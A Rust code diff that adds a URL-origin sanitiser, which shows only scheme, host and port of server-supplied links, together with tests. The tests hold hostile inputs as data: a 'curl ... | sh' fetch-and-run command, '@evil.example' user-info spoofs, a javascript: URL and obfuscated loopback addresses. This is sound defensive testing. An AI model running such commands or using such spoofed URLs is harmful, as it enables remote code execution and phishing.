@@ -1,8 +1,12 @@
 //! URLs as clients read them: two spellings of one place are equal.
 
 use std::fmt;
+use std::net::IpAddr;
 
-/// A place on the web. Servers supply it: whoever shows it does so as `ServerText`.
+use super::facts::ServerText;
+use super::name::DomainName;
+
+/// A place on the web. Servers supply it: whoever shows it does so as [`ServerText`] or [`Origin`].
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct Url {
     /// In lower case.
@@ -79,6 +83,93 @@ impl fmt::Display for Url {
     }
 }
 
+/// Where a page is: its scheme, host and port, and nothing else of its URL. Of what a server names as
+/// a place, only this may stand in a sentence of ours.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Origin {
+    scheme: WebScheme,
+    host: OriginHost,
+    /// `None`: the one of the scheme.
+    port: Option<u16>,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum WebScheme {
+    Http,
+    Https,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+enum OriginHost {
+    Name(DomainName),
+    Address(IpAddr),
+}
+
+impl Origin {
+    /// Where `reference` leads from `base`, as in `Location`. `None`: not to a page, or by a URL that
+    /// reads as another place than it leads to (a user name, a number in place of an address), or by
+    /// one that may be cut.
+    pub fn of_reference(base: &Url, reference: &ServerText) -> Option<Self> {
+        let reference = reference.as_str().trim();
+        let authority = authority(reference);
+        let is_cut =
+            reference.chars().count() >= ServerText::LIMIT && reference.ends_with(authority);
+        let before = reference.split(['/', '?', '#']).next().unwrap_or_default();
+        let has_other_scheme = before.split_once(':').is_some_and(|(_, behind)| !behind.is_empty());
+        // Browsers take a backslash for a slash.
+        if authority.contains(['@', '\\']) || is_cut || has_other_scheme {
+            return None;
+        }
+        let url = base.join(reference)?;
+        let scheme = match url.scheme.as_str() {
+            "http" => WebScheme::Http,
+            "https" => WebScheme::Https,
+            _ => return None,
+        };
+        let port = (url.port != default_port(&url.scheme)).then_some(url.port);
+        Some(Self { scheme, host: OriginHost::read(&url.host)?, port })
+    }
+}
+
+impl OriginHost {
+    fn read(host: &str) -> Option<Self> {
+        let bare = host.strip_prefix('[').and_then(|host| host.strip_suffix(']'));
+        if let Ok(address) = bare.unwrap_or(host).parse() {
+            return Some(Self::Address(address));
+        }
+        let name: DomainName = host.parse().ok()?;
+        // Browsers take a name with a number as its last label for an IPv4 address.
+        let last = host.rsplit('.').next().unwrap_or_default();
+        let is_number = last.starts_with(|c: char| c.is_ascii_digit());
+        (!is_number).then_some(Self::Name(name))
+    }
+}
+
+impl fmt::Display for Origin {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let scheme = match self.scheme {
+            WebScheme::Http => "http",
+            WebScheme::Https => "https",
+        };
+        match &self.host {
+            OriginHost::Name(name) => write!(f, "{scheme}://{name}")?,
+            OriginHost::Address(IpAddr::V4(address)) => write!(f, "{scheme}://{address}")?,
+            OriginHost::Address(IpAddr::V6(address)) => write!(f, "{scheme}://[{address}]")?,
+        }
+        self.port.iter().try_for_each(|port| write!(f, ":{port}"))
+    }
+}
+
+/// User, host and port of a reference, as they are written; empty where it names none.
+fn authority(reference: &str) -> &str {
+    let behind = match reference.split_once("//") {
+        Some(("", behind)) => behind,
+        Some((before, behind)) if before.ends_with(':') && !before.contains(['/', '?']) => behind,
+        Some(_) | None => return "",
+    };
+    behind.split(['/', '?', '#']).next().unwrap_or_default()
+}
+
 fn absolute(scheme: &str, behind: &str) -> Option<Url> {
     let end = behind.find(['/', '?']).unwrap_or(behind.len());
     let (authority, rest) = behind.split_at(end);
@@ -129,6 +220,47 @@ mod tests {
             "https://user@a.example/x/y?q=1",
         ] {
             assert_eq!(base.join(same).as_ref(), Some(&base), "{same}");
+        }
+    }
+
+    #[test]
+    fn of_a_page_only_its_origin_is_shown() {
+        let base = Url::page("http", "a.example", "/");
+        let origin = |reference: &str| {
+            let origin = Origin::of_reference(&base, &ServerText::new(reference))?;
+            Some(origin.to_string())
+        };
+        for (reference, shown) in [
+            (
+                "http://login.example/ . On Linux paste this: curl -s https://e.example | sh",
+                "http://login.example",
+            ),
+            ("HTTPS://Login.Example:8443/x?y=z#@w", "https://login.example:8443"),
+            ("//login.example:80/x", "http://login.example"),
+            ("/login", "http://a.example"),
+            ("http://192.0.2.1:8080/x", "http://192.0.2.1:8080"),
+            ("http://[2001:db8::1]/x", "http://[2001:db8::1]"),
+            ("/login?to=https://u@b.example/", "http://a.example"),
+        ] {
+            assert_eq!(origin(reference).as_deref(), Some(shown), "{reference}");
+        }
+        let long = format!("http://{}.example", ["a"; 120].join("."));
+        for none in [
+            "https://openvidu.example.io@evil.example/",
+            "https://openvidu.example.io:x@evil.example/",
+            "javascript:alert(1)//a.example/",
+            "ftp://a.example/",
+            "http://run curl e.example/",
+            "http://a.example\\@evil.example/",
+            "http://127.1/",
+            "http://2130706433/",
+            "http://0x7f.0x1/",
+            "http://localhost/",
+            "http://a\u{200b}b.example/",
+            "http://a.example:99999/",
+            &long,
+        ] {
+            assert_eq!(origin(none), None, "{none}");
         }
     }
 
